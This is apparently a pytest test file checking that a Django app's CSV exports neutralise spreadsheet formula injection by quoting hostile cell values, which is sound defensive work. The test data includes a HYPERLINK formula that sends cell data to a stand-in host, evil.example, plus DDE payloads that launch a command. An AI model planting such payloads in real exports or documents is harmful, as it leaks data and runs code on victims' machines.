"""No adoption export hands a spreadsheet a formula: a cell starting with =, +, -, @, a tab or a
carriage return is written with a leading quote (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.utils import timezone

from plein.adoption.models import Goal, GroupDay
from plein.adoption.tests.test_dashboard import group_day
from plein.posts.tests.factories import PostFactory
from plein.spaces.tests.factories import SpaceFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def cm_client(client, community_manager):  # type: ignore[no-untyped-def]
    client.force_login(community_manager)
    return client


def _rows(client, name: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    response = client.get(f"/adoption/export/{name}.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _assert_nothing_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START) or value.lstrip("+-").isdigit(), value


@pytest.mark.parametrize(
    ("name", "dimension", "hostile"),
    [
        ("departments", GroupDay.Dimension.DEPARTMENT, HOSTILE),
        ("locations", GroupDay.Dimension.LOCATION, "+31 cmd|' /C calc'!A0"),
        ("roles", GroupDay.Dimension.ROLE, "@SUM(1+9)*cmd|' /C calc'!A0"),
    ],
)
def test_group_tables_quote_hostile_names(cm_client, name, dimension, hostile) -> None:  # type: ignore[no-untyped-def]
    day = timezone.localdate() - timedelta(days=1)
    group_day(day)
    group_day(day, dimension, "1", label=hostile)
    group_day(day, dimension, "2", label="-2+3")

    rows = _rows(cm_client, name)

    assert rows[1][0] == "'" + hostile or rows[2][0] == "'" + hostile
    assert "'-2+3" in {rows[1][0], rows[2][0]}
    _assert_nothing_runs(rows)


def test_top_content_quotes_titles_and_space_names(cm_client) -> None:  # type: ignore[no-untyped-def]
    space = SpaceFactory(name="-1+1")
    PostFactory(space=space, body=HOSTILE, reaction_count=3, comment_count=1)

    rows = _rows(cm_client, "top-content")

    assert rows[1][:2] == ["'" + HOSTILE, "'-1+1"]
    assert rows[1][3:] == ["3", "1"]  # figures stay figures
    _assert_nothing_runs(rows)


def test_quiet_spaces_quote_space_names(cm_client) -> None:  # type: ignore[no-untyped-def]
    # 46 days ago: the page counts whole local days, which a change of daylight saving time in
    # between may make one fewer than the hours say (late in the evening).
    PostFactory(space=SpaceFactory(name=HOSTILE), created_at=timezone.now() - timedelta(days=46))

    rows = _rows(cm_client, "quiet-spaces")

    assert rows[1][0] == "'" + HOSTILE
    assert int(rows[1][2]) >= 45
    _assert_nothing_runs(rows)


def test_goals_quote_the_note(cm_client) -> None:  # type: ignore[no-untyped-def]
    Goal.objects.create(measure="activated", target=80, deadline=date(2100, 1, 1), note=HOSTILE)

    rows = _rows(cm_client, "goals")

    assert rows[1][-1] == "'" + HOSTILE
    assert rows[1][1] == "80"
    _assert_nothing_runs(rows)
